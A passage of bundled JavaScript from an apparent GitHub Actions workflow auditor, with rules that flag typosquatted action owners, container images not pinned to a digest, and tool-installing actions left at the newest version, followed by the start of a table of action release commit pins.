    'peter-evans/create-or-update-comment',
    'peter-evans/create-pull-request',
    'pnpm/action-setup',
    'pre-commit/action',
    'pypa/cibuildwheel',
    'pypa/gh-action-pypi-publish',
    'release-drafter/release-drafter',
    'renovatebot/github-action',
    'ruby/setup-ruby',
    'shivammathur/setup-php',
    'sigstore/cosign-installer',
    'slackapi/slack-github-action',
    'softprops/action-gh-release',
    'stefanzweifel/git-auto-commit-action',
    'step-security/harden-runner',
    'styfle/cancel-workflow-action',
    'swatinem/rust-cache',
    'taiki-e/install-action',
    'tj-actions/changed-files',
    'treosh/lighthouse-ci-action',
];
const popularActions = names;

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/typo.js
// Whether one name is another with one slip of a finger: a letter too few, too many, wrong, or two the wrong way round.
function isOneSlipAway(written, meant) {
    if (written === meant || Math.abs(written.length - meant.length) > 1)
        return false;
    let at = 0;
    while (at < written.length && written[at] === meant[at])
        at++;
    const rest = written.slice(at);
    const other = meant.slice(at);
    if (rest.length === other.length)
        return rest.slice(1) === other.slice(1) || (rest[0] === other[1] && rest[1] === other[0] && rest.slice(2) === other.slice(2));
    return rest.length < other.length ? rest === other.slice(1) : rest.slice(1) === other;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/supply-chain/typosquat-uses.js
// An owner that is one letter away from one that everybody uses, with a repository of the same name.





const byRepository = new Map();
for (const slug of popularActions) {
    const [owner = '', repository = ''] = slug.split('/');
    byRepository.set(repository, [...(byRepository.get(repository) ?? []), owner]);
}
const typosquatUses = (0,src_rule/* audit */.s)({
    id: 'typosquat-uses',
    severity: 'high',
    confidence: 'low',
    title: 'An action\u2019s owner is a slip away from a well-known one',
    why: 'Anyone can register the misspelt owner and publish an action there that does what yours did, and more.',
    remedy: 'Correct the name, or say in a comment that the other repository is meant.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.dependencies,
    references: ['https://docs.zizmor.sh/audits/#typosquat-uses'],
    on: ['uses'],
    *check({ uses, owner: statement }) {
        const { target } = uses;
        if (target.kind !== 'repository')
            return;
        const [owner = '', repository = ''] = target.slug.split('/');
        const known = byRepository.get(repository) ?? [];
        if (known.includes(owner))
            return;
        const meant = known.find((candidate) => isOneSlipAway(owner, candidate));
        if (meant === undefined)
            return;
        yield {
            at: uses.scalar.at,
            statement: statement.map.at,
            message: `\`${target.owner}/${target.repository}\` is one slip away from \`${meant}/${repository}\``,
            fix: () => {
                const at = uses.scalar.verbatim;
                if (at === undefined || uses.scalar.alias !== undefined)
                    return undefined;
                const start = at.start + uses.scalar.text.indexOf(target.owner);
                return {
                    description: `Write \`${meant}\``,
                    kind: 'suggested',
                    edits: [{ start, end: start + target.owner.length, replacement: meant }],
                };
            },
        };
    },
    examples: {
        bad: [(0,example/* stepsExample */.Y6)(`- uses: action/setup-node@${example/* commit */.cd} # v4.4.0`), (0,example/* stepsExample */.Y6)(`- uses: actoins/setup-node@${example/* commit */.cd} # v4.4.0`)],
        good: [(0,example/* stepsExample */.Y6)(`- uses: actions/setup-node@${example/* commit */.cd} # v4.4.0`), (0,example/* stepsExample */.Y6)(`- uses: example/setup-node@${example/* commit */.cd} # v1.0.0`)],
    },
});

;// CONCATENATED MODULE: ./build/bundled/packages/images/src/reference.js
// Image references as docker reads them: `nginx` is docker.io/library/nginx:latest.

const dockerHub = 'docker.io';
const hubHosts = [dockerHub, 'index.docker.io', 'registry-1.docker.io'];
/** No registry accepts more: 255 for the name (distribution specification) and room for host, tag and digest. */
const maxReference = 700;
const component = /^[a-z0-9]+(?:(?:\.|_{1,2}|-{1,20})[a-z0-9]+){0,60}$/;
const tagShape = /^\w[\w.-]{0,127}$/;
const digestShape = /^(?:sha256:[0-9a-f]{64}|sha512:[0-9a-f]{128})$/;
const hostShape = /^(?:\[[0-9a-f:.]{2,45}\]|[a-z0-9](?:[a-z0-9.-]{0,251}[a-z0-9])?)(?::\d{1,5})?$/i;
function isDigest(text) {
    return digestShape.test(text);
}
/** @throws PortcullisError `reference-invalid`. */

/** `registry/repository:tag@digest`, with the registry always written out. */

/** The first component is a registry when it looks like a host, as in docker: a dot, a port or `localhost`. */

/** Hosts have no case, and Docker Hub has several. */
function normalHost(host) {
    const lower = host.toLowerCase();
    return hubHosts.includes(lower) ? dockerHub : lower;
}

;// CONCATENATED MODULE: ./build/bundled/packages/images/src/pinning.js
// How firmly a reference says which image it is: one answer for every tag and digest, written or not.

function pinningOf({ name, tag, digest }) {
    if (digest !== undefined && isDigest(digest))
        return { state: 'digest', confidence: 'high' };
    // Behind `@` nothing but a digest may come, though which one is not known.
    if (digest !== undefined)
        return { state: 'unknown', confidence: isVariable(digest) ? 'medium' : 'high' };
    if (tag === undefined)
        return isVariable(name) ? { state: 'unknown', confidence: 'low' } : { state: 'none', confidence: 'high' };
    if (isVariable(tag))
        return { state: 'unknown', confidence: 'low' };
    return { state: tag === 'latest' ? 'latest' : 'tag', confidence: isVariable(name) ? 'medium' : 'high' };
}
/** `$NAME`, `${NAME}`, `${{ \u2026 }}`, `{{ \u2026 }}`, `%NAME%`: what a shell, a pipeline or a template puts something else for. */
function isVariable(text) {
    return /\$|\{\{|%[A-Za-z_]\w{0,100}%/.test(text);
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/supply-chain/unpinned-images.js
// Images of jobs, services and steps by a name that others can move.








const unpinned_images_digest = `sha256:${'5f'.repeat(32)}`;
const unpinnedImages = (0,src_rule/* audit */.s)({
    id: 'unpinned-images',
    severity: 'high',
    confidence: 'high',
    title: 'An image is named by something that others can move',
    why: 'Whoever may push to its repository decides what runs here: around the steps, with the job\u2019s token and secrets, or beside them as a service.',
    remedy: 'Add the digest behind the tag: `image:tag@sha256:\u2026`.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.dependencies,
    references: ['https://docs.zizmor.sh/audits/#unpinned-images'],
    on: ['job', 'step', 'action'],
    only: (part) => part.kind !== 'step' || part.uses?.target.kind === 'image',
    *check(part, { repository }) {
        if (part.kind === 'job')
            yield* unpinned_images_jobProblems(part, repository);
        else if (part.kind === 'step')
            yield* staked(unpinned_images_stepProblems(part), part, repository);
        else
            yield* unpinned_images_actionProblems(part);
    },
    examples: {
        bad: [
            (0,example/* workflowExample */.ih)({ job: 'container: ubuntu' }),
            (0,example/* workflowExample */.ih)({ job: 'services:\n  database:\n    image: postgres:latest' }),
            (0,example/* workflowExample */.ih)({ job: 'container:\n  image: ghcr.io/example/builder:1.2' }),
            (0,example/* workflowExample */.ih)({ job: `strategy:\n  matrix:\n    image: ['ubuntu:24.04', 'debian@${unpinned_images_digest}']\ncontainer: \${{ matrix.image }}` }),
            (0,example/* workflowExample */.ih)({ steps: '- uses: docker://alpine:3.20' }),
        ],
        good: [
            (0,example/* workflowExample */.ih)({ job: `container: ubuntu:24.04@${unpinned_images_digest}\nservices:\n  database:\n    image: postgres@${unpinned_images_digest}` }),
            (0,example/* workflowExample */.ih)({ job: 'container: "${{ matrix.image }}"\nstrategy:\n  matrix:\n    image: [""]' }),
            (0,example/* workflowExample */.ih)({ steps: `- uses: docker://alpine:3.20@${unpinned_images_digest}` }),
        ],
    },
});
function* unpinned_images_jobProblems(job, repository) {
    const { container } = job;
    for (const held of [...(container === undefined ? [] : [container]), ...job.services]) {
        if (held.image === undefined)
            continue;
        const at = held.value.kind === 'map' ? (0,parts/* placeOfKey */.qQ)(held.value, 'image') : (0,parts/* placeOfKey */.qQ)(job.map, 'container');
        const problems = imageProblems(held.image, at ?? (0,src_context/* placeOf */.$t)(held.image), job);
        if (held === container)
            yield* staked(problems, job, repository);
        // A service stands beside the steps: it answers them, and is handed neither workspace nor token.
        else
            for (const problem of staked(problems, job, repository))
                yield { ...problem, severity: lower(problem.severity) };
    }
}
/** As bad as what the job has to lose. */
function* staked(problems, owner, repository) {
    for (const problem of problems)
        yield { ...problem, severity: problem.severity ?? stakeIn(owner, repository).severity };
}
function* imageProblems(image, at, job) {
    const values = (0,src_matrix/* matrixValues */.Q)(job, image.text);
    if (values.length === 0) {
        yield* judged(image.text, at, job.map.at);
        return;
    }
    for (const value of values)
        for (const problem of judged(value.text, at, job.map.at))
            yield { ...problem, related: [{ at: value.at, message: 'This value of the matrix is meant.' }] };
}
function* unpinned_images_stepProblems({ uses, map }) {
    if (uses?.target.kind !== 'image')
        return;
    yield* judged(uses.target.image, uses.scalar.at, map.at);
}
function* unpinned_images_actionProblems({ runs }) {
    if (runs.kind !== 'docker' || runs.image === undefined || !runs.image.text.startsWith('docker://'))
        return;
    const at = (0,parts/* entryOf */.Ms)(runs.map, 'image') === undefined ? runs.image.at : ((0,parts/* placeOfKey */.qQ)(runs.map, 'image') ?? runs.image.at);
    yield* judged(runs.image.text.slice('docker://'.length), at, runs.map.at);
}
const unpinned_images_said = {
    none: 'has neither tag nor digest',
    latest: 'is whatever is newest',
    tag: 'is not pinned to a digest',
    unknown: 'is named by an expression, which may say anything',
};
function* judged(text, at, statement) {
    const image = text.trim();
    // No container at all.
    if (image === '')
        return;
    const { state, confidence } = pinningOf(written(image));
    if (state === 'digest')
        return;
    const moving = state === 'none' || state === 'latest';
    const whole = (0,parts/* isExpression */.BH)(image) && /^\$\{\{[^}]{1,500}\}\}$/.test(image);
    yield {
        at,
        statement,
        confidence: whole ? 'low' : (0,parts/* isExpression */.BH)(image) ? 'medium' : confidence,
        // A tag is what most people mean by pinned; an expression may well bring a digest.
        ...(moving ? {} : { persona: whole ? 'regular' : 'pedantic' }),
        ...(moving ? {} : { severity: 'medium' }),
        message: `The image \`${unpinned_images_shown(image)}\` ${unpinned_images_said[whole ? 'unknown' : state === 'unknown' ? 'tag' : state]}`,
    };
}
/** Name, tag and digest as they stand there; a colon within braces is none. */
function written(image) {
    const plain = image.replace(/\$\{\{[^}]{0,500}\}\}/g, (found) => `$${'X'.repeat(Math.max(0, found.length - 1))}`);
    const at = plain.indexOf('@');
    const named = at < 0 ? plain : plain.slice(0, at);
    const colon = named.lastIndexOf(':');
    const tagged = colon > named.lastIndexOf('/');
    return {
        name: tagged ? named.slice(0, colon) : named,
        ...(tagged ? { tag: named.slice(colon + 1) } : {}),
        ...(at < 0 ? {} : { digest: plain.slice(at + 1) }),
    };
}
function unpinned_images_shown(image) {
    const [first = ''] = image.split('/', 1);
    return first.includes('.') && normalHost(first) === dockerHub ? image.slice(first.length + 1, 200) : image.slice(0, 200);
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/supply-chain/unpinned-tools.js
// Actions that install a tool, where no version of the tool is asked for.




const latest = /^(?:latest|)$/i;
/** By the inputs that the actions are known to have, November 2026; not held row by row against their definitions. */
const tools = new Map([
    ['aquasecurity/setup-trivy', { input: 'version', moving: latest }],
    ['1password/load-secrets-action', { input: 'version', moving: latest }],
    ['extractions/setup-just', { input: 'just-version', moving: /^(?:\*|)$/ }],
    ['extractions/setup-crate', { input: 'version', moving: /^(?:\*|)$/ }],
    ['goreleaser/goreleaser-action', { input: 'version', moving: /^(?:latest|nightly|)$/i, persona: 'pedantic' }],
    ['astral-sh/setup-uv', { input: 'version', moving: latest, persona: 'pedantic' }],
    ['golangci/golangci-lint-action', { input: 'version', moving: latest, persona: 'pedantic' }],
    ['hashicorp/setup-terraform', { input: 'terraform_version', moving: latest, persona: 'pedantic' }],
    ['azure/setup-helm', { input: 'version', moving: latest, persona: 'pedantic' }],
    ['azure/setup-kubectl', { input: 'version', moving: latest, persona: 'pedantic' }],
    ['oven-sh/setup-bun', { input: 'bun-version', moving: /^(?:latest|canary)$/i, persona: 'pedantic' }],
    ['zizmorcore/zizmor-action', { input: 'version', moving: latest, persona: 'pedantic' }],
]);
const unpinnedTools = (0,src_rule/* audit */.s)({
    id: 'unpinned-tools',
    severity: 'medium',
    confidence: 'high',
    title: 'An action installs whatever version of a tool is newest',
    why: 'The pin of the action does not hold what it downloads: a poisoned release of the tool runs here the same day.',
    remedy: 'Name a version of the tool in the action\u2019s inputs.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.dependencies,
    references: ['https://docs.zizmor.sh/audits/#unpinned-tools'],
    on: ['action-step'],
    *check(step) {
        const name = (0,parts/* actionName */.aM)(step);
        const tool = name === undefined ? undefined : tools.get(name);
        if (tool === undefined || step.uses === undefined)
            return;
        const given = (0,parts/* inputOf */.wg)(step, tool.input);
        const text = given?.scalar?.text.trim();
        const persona = tool.persona === undefined ? {} : { persona: tool.persona };
        if (given === undefined) {
            if (tool.moving.test('') && !isPinnedElsewhere(step))
                yield {
                    at: step.uses.scalar.at,
                    statement: step.map.at,
                    message: `Without \`${tool.input}\` the newest version of the tool is installed`,
                    ...persona,
                };
        }
        else if (text !== undefined && (tool.moving.test(text) || (0,parts/* isExpression */.BH)(text)))
            yield {
                at: (0,parts/* placeOfPair */.$H)(given),
                statement: step.map.at,
                ...((0,parts/* isExpression */.BH)(text) ? { confidence: 'low' } : {}),
                message: (0,parts/* isExpression */.BH)(text)
                    ? `An expression decides which version \`${tool.input}\` asks for`
                    : `\`${tool.input}: ${text.slice(0, 40)}\` is whatever version is newest`,
                ...persona,
            };
    },
    examples: {
        bad: [
            (0,example/* stepsExample */.Y6)(`- uses: aquasecurity/setup-trivy@${example/* commit */.cd} # v0.2.3`),
            (0,example/* stepsExample */.Y6)(`- uses: aquasecurity/setup-trivy@${example/* commit */.cd} # v0.2.3\n  with:\n    version: latest`),
            (0,example/* stepsExample */.Y6)(`- uses: golangci/golangci-lint-action@${example/* commit */.cd} # v6.5.0\n  with:\n    version: latest`),
        ],
        good: [(0,example/* stepsExample */.Y6)(`- uses: aquasecurity/setup-trivy@${example/* commit */.cd} # v0.2.3\n  with:\n    version: v0.60.0`)],
    },
});
/** Some take the version from a file of the project as well. */
function isPinnedElsewhere(step) {
    return (step.with.some(({ name }) => /^version-file$|-version-file$|^working-directory$/.test(name)) && (0,parts/* inputText */.AN)(step, 'version') === undefined);
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/data/action-pins.json
const action_pins_namespaceObject = /*#__PURE__*/JSON.parse('{"sP":"release tags of the actions\' own repositories","p6":"2026-11-29","hm":{"1password/load-secrets-action":["v4.0.0 92467eb28f72e8255933372f1e0707c567ce2259","v3.2.1 dafbe7cb03502b260e2b2893c753c352eee545bf","v2.0.0 581a835fb51b8e7ec56b71cf2ffddd7e68bb25e0","v1.3.2 971116bbffed9bfe57bd55447317d56fbc7a6a81"],"8398a7/action-slack":["v3.19.0 77eaa4f1c608a7d68b38af4e3f739dcd8cba273e","v2.7.0 78391c20a77e510cde85f71fbd8175ce83f1ae6f","v1.1.2 fb1e22cff43c0136530f841342e18c8a68bc4246"],"actions-ecosystem/action-add-labels":["v1.1.3 18f1af5e3544586314bbe15c0273249c770b2daf"],"actions-ecosystem/action-remove-labels":["v1.3.0 2ce5d41b4b6aa8503e285553f75ed56e0a40bae0"],"actions-rs/audit-check":["v1.2.0 35b7b53b1e25b55642157ac01b4adceb5b9ebef3"],"actions-rs/cargo":["v1.0.3 844f36862e911db73fe0815f00a4a2602c279505"],"actions-rs/clippy-check":["v1.0.7 b5b5f21f4797c02da247df37026fcd0a5024aa4d"],"actions-rs/toolchain":["v1.0.7 16499b5e05bf2e26879000db0c1d13f7e13fa3af"],"actions-rust-lang/setup-rust-toolchain":["v1.17.0 166cdcfd11aee3cb47222f9ddb555ce30ddb9659"],"actions/add-to-project":["v2.0.0 5afcf98fcd03f1c2f92c3c83f58ae24323cc57fd","v1.0.2 244f685bbc3b7adfa8466e08b698b5577571133e","v0.6.1 1b844f0c5ac6446a402e0cb3693f9be5eca188c5"],"actions/ai-inference":["v3 2c43c91ae16266ca159d311430343c67a5ffa222","v2.1.1 a7805884c80886efc241e94a5351df715968a0ad","v1.2.8 b81b2afb8390ee6839b494a404766bef6493c7d9","v0.0.1 5ac68dad30e5f447a3138ef74f038117040a886a"],"actions/attest":["v4.2.2 1e69f48acb82d1966a394da916b4c1698aa569d6","v3.2.0 e59cbc1ad1ac2d59339667419eb8cdde6eb61e3d","v2.4.0 ce27ba3b4a9a139d9a20a4a07d69fabb52f1e5bc","v1.4.1 67422f5511b7ff725f4dbd6fb9bd2cd925c65a8d"],"actions/attest-build-provenance":["v4.1.0 a2bbfa25375fe432b6a289bc6b6cd05ecd0c4c32","v3.2.0 96278af6caaf10aea03fd8d33a09a777ca52d62f","v2.4.0 e8998f949152b193b063cb0ec769d69d929409be","v1.4.4 ef244123eb79f2f7a7e75d99086184180e6d0018"],"actions/attest-sbom":["v4.1.0 c604332985a26aa8cf1bdc465b92731239ec6b9e","v3.0.0 4651f806c01d8637787e274ac3bdf724ef169f34","v2.4.0 bd218ad0dbcb3e146bd073d1d9c6d78e08aa8a0b","v1.4.1 5026d3663739160db546203eeaffa6aa1c51a4d6"],"actions/cache":["v5.0.5 27d5ce7f107fe9357f9df03efb73ab90386fccae","v4.3.0 0057852bfaa89a56745cba8c7296529d2fc39830","v3.5.0 6f8efc29b200d32929f49075959781ed54ec270c","v2.1.8 2b250bc32ad02700b996b496c14ac8c2840a2991"],"actions/checkout":["v7.0.1 3d3c42e5aac5ba805825da76410c181273ba90b1","v6.1.0 d23441a48e516b6c34aea4fa41551a30e30af803","v5.1.0 fbc6f3992d24b796d5a048ff273f7fcc4a7b6c09","v4.4.0 11d5960a326750d5838078e36cf38b85af677262"],"actions/configure-pages":["v5.0.0 983d7736d9b0ae728b81ab479565c72886d7745b","v4.0.0 1f0c5cde4bc74cd7e1254d0cb4de8d49e9068c7d","v3.0.7 b8130d9ab958b325bbde9786d62f2c97a9885a0e","v2.1.3 c5a3e1159e0cbdf0845eb8811bd39e39fc3099c2"],"actions/create-github-app-token":["v3.1.1 1b10c78c7865c340bc4f6099eb2f838309f1e8c3","v2.2.2 fee1f7d63c2ff003460e3d139729b119787bc349","v1.12.0 d72941d797fd3113feb6b93fd0dec494b13a2547"],"actions/create-release":["v1.1.4 0cb9c9b65d5d1901c1f53e5e66eaf4afd303e70e"],"actions/delete-package-versions":["v5.0.0 e5bc658cc4c965c472efe991f8beea3981499c55","v4.1.1 0d39a63126868f5eefaa47169615edd3c0f61e20","v3.0.1 c5e64443ea1242014b4011a563c5bccc90867ac8","v2.0.2 000223ef3eaa3505c63d4c610f57ef103bcab46d"],"actions/dependency-review-action":["v4.9.0 2031cfc080254a8a887f58cffee85186f0e49e48","v3.1.5 c74b580d73376b7750d3d2a50bfb8adc2c937507","v2.5.1 0efb1d1d84fc9633afcdaad14c485cbbc90ef46c","v1.0.2 a9c83d3af6b9031e20feba03b904645bb23d1dab"],"actions/deploy-pages":["v5.0.0 cd2ce8fcbc39b97be8ca5fce6e763baed58fa128","v4.0.5 d6db90164ac5ed86f2b6aed7e0febac5b3c0c03e","v3.0.1 13b55b33dd8996121833dbc1db458c793a334630","v2.0.5 de14547edc9944350dc0481aa5b7afb08e75f254"],"actions/download-artifact":["v8.0.1 3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c","v7.0.0 37930b1c2abaa49bbe596cd826c3c89aef350131","v6.0.0 018cc2cf5baa6db3ef3c5f8a56943fffe632ef53","v5.0.0 634f93cb2916e3fdff6788551b99b062d0335ce0"],"actions/first-interaction":["v3.1.0 1c4688942c71f71d4f5502a26ea67c331730fa4d","v2.0.0 2d4393e6bc0e2efb2e48fba7e06819c3bf61ffc9","v1.3.0 34f15e814fe48ac9312ccf29db4e74fa767cbab7"],"actions/github-script":["v8.0.0 ed597411d8f924073f98dfc5c65a23a2325f34cd","v7.1.0 f28e40c7f34bde8b3046d885e986cb6290c5673b","v6.4.1 d7906e4ad0b1822421a7e6a35d5ca353c962f410","v5.2.0 211cb3fefb35a799baa5156f9321bb774fe56294"],"actions/jekyll-build-pages":["v1.0.13 44a6e6beabd48582f863aeeb6cb2151cc1716697"],"actions/labeler":["v7.0.0 bf12e9b00b37c5c0ca2b87b79b2daf7891dbda13","v6.2.0 b8dd2d9be0f68b860e7dae5dae7d772984eacd6d","v5.0.0 8558fd74291d67161a8a78ce36a881fa63b766a9","v4.3.0 ac9175f8a1f3625fd0d4fb234536d26811351594"],"actions/publish-immutable-action":["v0.0.4 4bc8754ffc40f27910afb20287dbbbb675a4e978"],"actions/setup-dotnet":["v6.0.0 a98b56852c35b8e3190ac28c8c2271da59106c68","v5.4.0 26b0ec14cb23fa6904739307f278c14f94c95bf1","v4.3.1 67a3573c9a986a3f9c594539f4ab511d57bb3ce9","v3.4.2 55ec9447dda3d1cf6bd587150f3262f30ee10815"],"actions/setup-go":["v7.0.0 b7ad1dad31e06c5925ef5d2fc7ad053ef454303e","v6.5.0 924ae3a1cded613372ab5595356fb5720e22ba16","v5.6.0 40f1582b2485089dde7abd97c1529aa768e1baff","v4.3.0 7b8cf10d4e4a01d4992d18a89f4d7dc5a3e6d6f4"],"actions/setup-java":["v5.7.0 b6effb05e454b25005698d916606bdc6ffcbf961","v4.9.1 cf277c60eb25467037889841efdb72551f06f6c3","v3.14.2 e9fbacdec3bb3b6036605a3e6f7995d66773a8c6","v2.5.2 215b7e5f829ab9cac114c149667e57dc1b70b4bc"],"actions/setup-node":["v7.0.0 820762786026740c76f36085b0efc47a31fe5020","v6.5.0 249970729cb0ef3589644e2896645e5dc5ba9c38","v5.0.0 a0853c24544627f65ddf259abe73b1d18a591444","v4.4.0 49933ea5288caeca8642d1e84afbd3f7d6820020"],"actions/setup-python":["v7.0.0 5fda3b95a4ea91299a34e894583c3862153e4b97","v6.3.0 ece7cb06caefa5fff74198d8649806c4678c61a1","v5.6.0 a26af69be951a213d495a4c3e4e4022e16d87065","v4.9.1 7f4fc3e22c37d6ff65e88745f38bd3157c663f7c"],"actions/setup-ruby":["v1.1.3 e932e7af67fc4a8fc77bd86b744acd4e42fe3543"],"actions/stale":["v10.3.0 eb5cf3af3ac0a1aa4c9c45633dd1ae542a27a899","v9.1.0 5bef64f19d7facfb25b37b414482c7164d639639","v8.0.0 1160a2240286f5da8ec72b1c0816ce2481aabf84","v7.0.0 6f05e4244c9a0b2ed3401882b05d701dd0a7289b"],"actions/upload-artifact":["v7.0.0 bbbca2ddaa5d8feaa63e36b76fdaad77386f024f","v6.0.0 b7c566a772e6b6bfb58ed0dc250532a479d7789f","v5.0.0 330a01c490aca151604b8cf639adc76d48f6c5d4","v4.6.2 ea165f8d65b6e75b540449e92b4886f43607fa02"],"actions/upload-pages-artifact":["v5.0.0 fc324d3547104276b827a68afc52ff2a11cc49c9","v4.0.0 7b1f4a764d45c48632c6b24a0339c27f5614fb0b","v3.0.1 56afc609e74202658d3ffba0e8f6dda462b719fa","v2.0.0 a753861a5debcf57bf8b404356158c8e1e33150c"],"actions/upload-release-asset":["v1.0.2 e8f9f06c4b078e705bd2ea027f0926603fc9b4d5"],"ad-m/github-push-action":["v1.3.0 881a6320fdb16eb5318c5054f31c218aec2b324c","v0.8.0 d91a481090679876dfc4178fef17f286781251df"],"addnab/docker-run-action":["v3 4f65fabd2431ebc8d299f8e5a018d79a769ae185","v2 4d955dc997bf4062071220322058ad954f3e95c5","v1 1cd63ec344892b3e6174b19bde301d071a573ade"],"amannn/action-semantic-pull-request":["v6.1.1 48f256284bd46cdaab1048c3721360e808335d50","v5.5.3 0723387faaf9b38adef4775cd42cfd5155ed6017","v4.6.0 505e44b4f33b4c801f063838b3f053990ee46ea7","v3.7.0 536f681e2c60d973396eb60457d42ced8cd3f61a"],"anchore/sbom-action":["v0.24.0 e22c389904149dbc22b58101806040fa8d37a610"],"anchore/scan-action":["v7.4.0 e1165082ffb1fe366ebaf02d8526e7c4989ea9d2","v6.5.1 1638637db639e0ade3258b51db49a9a137574c3e","v5.3.0 869c549e657a088dc0441b08ce4fc0ecdac2bb65","v4.1.2 64a33b277ea7a1215a3c142735a1091341939ff5"],"android-actions/setup-android":["v3.2.2 9fc6c4e9069bf8d3d10b2204b1fb8f6ef7065407","v2.0.10 7c5672355aaa8fde5f97a91aa9a99616d1ace6bc","v1.0.0 5c7f7b1c49fd56d658b8ab83fdf8afb34e38005b"],"anothrnick/github-tag-action":["1.75.0 4ed44965e0db8dab2b466a16da04aec3cc312fd8","0.1.1 d3cbd079030079bb49f60e098067f234d3f8ff39"],"anthropics/claude-code-action":["v1.0.200 24dcd50c0568f0fc9e9211213a4fd2d9eb15c4e0","v0.0.63 28f83620103c48a57093dcc2837eec89e036bb9f"],"appleboy/scp-action":["v1.0.0 ff85246acaad7bdce478db94a363cd2bf7c90345","v0.1.7 917f8b81dfc1ccd331fef9e2d61bdc6c8be94634"],"appleboy/ssh-action":["v1.2.5 0ff4204d59e8e51228ff73bce53f80d53301dee2","v0.1.10 334f9259f2f8eb3376d33fa4c684fff373f2c2a6"],"aquasecurity/setup-trivy":["v0.3.1 81e514348e19b6112ce2a7e3ecbafe19c1e1f567"],"aquasecurity/trivy-action":["v0.36.0 ed142fd0673e97e23eac54620cfb913e5ce36c25"],"arduino/setup-protoc":["v3.0.0 c65c819552d16ad3c9b72d9dfd5ba5237b9c906b","v2.1.0 a8b67ba40b37d35169e222f3bb352603327985b6","v1.3.0 149f6c87b92550901b26acd1632e11c3662e381f"],"arduino/setup-task":["v3.0.0 c0bc642852239c2689f73f4ea6459c29405f3c52","v2.0.0 b91d5d2c96a56797b48ac1e0e89220bf64044611","v1.0.3 e26d8975574116b0097a1161e0fe16ba75d84c1c"],"asdf-vm/actions":["v4.0.0 1902764435ca0dd2f3388eea723a4f92a4eb8302","v3.0.2 05e0d2ed97b598bfce82fd30daf324ae0c4570e6","v2.2.0 6a442392015fbbdd8b48696d41e0051b2698b2e4","v1.1.0 707e84f3ee349548310aeabdad0dd3bfcb9b69fa"],"astral-sh/ruff-action":["v4.1.0 278981a28ce3188b1e39527901f38254bf3aac89","v3.6.1 4919ec5cf1f49eff0871dbcea0da843445b837e6","v2.0.0 f2e32211077f40bfeab40e16285216924ebea4cb","v1.1.1 d0a0e814ec17e92d33be7d24dd922b479f1bcd38"],"astral-sh/setup-uv":["v10.0.1 20cfd1bf945f4377ade1205e4dbc17946fc9a30d","v9.0.0 c771a70e6277c0a99b617c7a806ffedaca235ff9","v8.3.2 11f9893b081a58869d3b5fccaea48c9e9e46f990","v7.6.0 37802adc94f370d6bfd71619e3f0bf239e1f3b78"],"autofix-ci/action":["v1.3.1 2891949f3779a1cafafae1523058501de3d4e944"],"aws-actions/amazon-ecr-login":["v2.1.7 03f1aad4c6c7ffd436567f42f9384779290529bd","v1.7.1 5a88a04c91d5c6f97aae0d9be790e64d9b1d47b7"],"aws-actions/amazon-ecs-deploy-task-definition":["v2.6.3 c465972ecbd160473f22e683363b422a5412a3de","v1.6.0 8229049d0e7c34be9ba40d443608d2d6cde7510f"],"aws-actions/amazon-ecs-render-task-definition":["v1.9.0 138c24f321fdbdf7edee4a685519d253cae2cdea"],"aws-actions/aws-cloudformation-github-deploy":["v2.2.0 81e3b03d2266bcb76c4bcc37a7d71d9cb67838bb","v1.3.0 33527b83bddcf6b3f0b135d9550bde8475325c73"],"aws-actions/aws-secretsmanager-get-secrets":["v3.0.1 2cb1a461cbd4865ac4299648312e4704c646cd53","v2.0.10 a9a7eb4e2f2871d30dc5b892576fde60a2ecc802","v1.0.6 022e8919774ecb75e8e375656d7b1898936ab878"],"aws-actions/configure-aws-credentials":["v6.2.3 e6de054238d6b7531b4efff3b6587d9aade6a06c","v5.1.1 61815dcd50bd041e203e49132bacad1fd04d2708","v4.3.1 7474bc4690e29a8392af63c5b98e7449536d5c3a","v3.0.2 50ac8dd1e1b10d09dac7b8727528b91bed831ac0"],"aws-actions/setup-sam":["v3 89ddb14d60e682855e3fea4be85b3c56485de310","v2 f84ec7d548307efafe33230528756de3c5841a17","v1 0578b2f57e540e67233c3ce0c5477ee36938ff3d","v0 e7127f24b9302e20016a2cc3f76939b02ec9fc20"],"azure/aks-set-context":["v5.0.0 60623acbdcbbdcf799ad50a1adf8703874339f8b","v4.0.3 c7eb093e5a5d47caa333f64974d5fd1cd4bf069d","v3.2 4edaee69f820359371ee8bc85189ac03a21d3a58","v2.3 de790134169f2a2492fee5f99c16b98f847f4be9"],"azure/arm-deploy":["v2.0.0 a1361c2c2cd398621955b16ca32e01c65ea340f5","v1.0.9 65ae74fb7aec7c680c88ef456811f353adae4d06"],"azure/cli":["v3.0.0 9eb25b8360668fb0ecbafa808d40e2197b2f5f52","v2.2.0 9f7ce6f37c31b777ec6c6b6d1dfe7db79f497956","v1.0.9 4db43908b9df2e7ac93c8275a8f9a448c59338dd"],"azure/docker-login":["v2 15c4aadf093404726ab2ff205b2cdd33fa6d054c","v1.0.1 83efeb77770c98b620c73055fbb59b2847e17dc0"],"azure/functions-action":["v1.5.7 c5060b3b8bb1ebbcb531abd00c822ecbaa8ea656"],"azure/k8s-deploy":["v7.0.0 51ca02a8b7225fbd0924aac359c5b336a5f1e5b4","v6.0.0 c7ebd0d5f39477a23f1b5dea0f52e6db04adf28e","v5.1.0 c8cfec839dc09896b3b8cc40cd13d04792680771","v4.10.0 4438d05de7bc2f9f64e60db25814162a5138c8f6"],"azure/login":["v3.0.1 f5d393ae46f8fde4be8b75f32e3fc50e654ad0ca","v2.3.1 7184910d9eb2b1c5e48f7073824a90609bb9b6d6","v1.6.1 cb79c773a3cfa27f31f25eb3f677781210c9ce3d"],"azure/powershell":["v2.0.0 53dd145408794f7e80f97cfcca04155c85234709","v1.4.0 1300bbd2b3e1c21c029fe34887d16d2809a1397f"],"azure/setup-helm":["v5.0.1 9bc31f4ebc9c6b171d7bfbaa5d006ae7abdb4310","v4.3.1 1a275c3b69536ee54be43f2070a358922e12c8d4","v3.5 5119fcb9089d432beecbf79bb2c7915207344b78","v2.2 